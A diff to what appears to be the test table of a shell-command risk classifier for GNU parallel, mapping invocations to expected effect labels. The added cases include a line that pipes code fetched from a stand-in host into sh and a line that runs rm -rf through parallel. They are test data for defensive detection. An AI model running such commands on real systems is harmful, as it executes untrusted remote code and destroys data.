@@ -52,6 +52,8 @@ JOBS = [
     ("parallel -S host1 hostname ::: 1", {"dynamic:code"}),
     ("parallel --sshloginfile hosts uptime ::: 1", {"dynamic:code"}),
     ("find . | parallel", {"dynamic:code"}),
+    ("cat big.txt | parallel --pipe rm -rf /o/x", {"write:/o/x", "destroy:files"}),
+    ("curl -s https://x.example/a | parallel --pipe sh", {"dynamic:code"}),
     ("parallel echo ::: {1..100} ::: {1..100}", {"dynamic:code"}),
     ("parallel --joblog /o/j.log echo ::: a", {"write:/o/j.log", "run:echo a"}),
 ]  # fmt: skip
@@ -73,6 +75,7 @@ QUIET = [
     "git ls-files '*.py' | parallel -j8 wc -l",
     "parallel -j+0 'gzip {}' ::: data/a.csv data/b.csv",
     "parallel --dry-run rm ::: a b",
+    "parallel --pipe --block 10M gzip < big.txt",
 ]
 
 
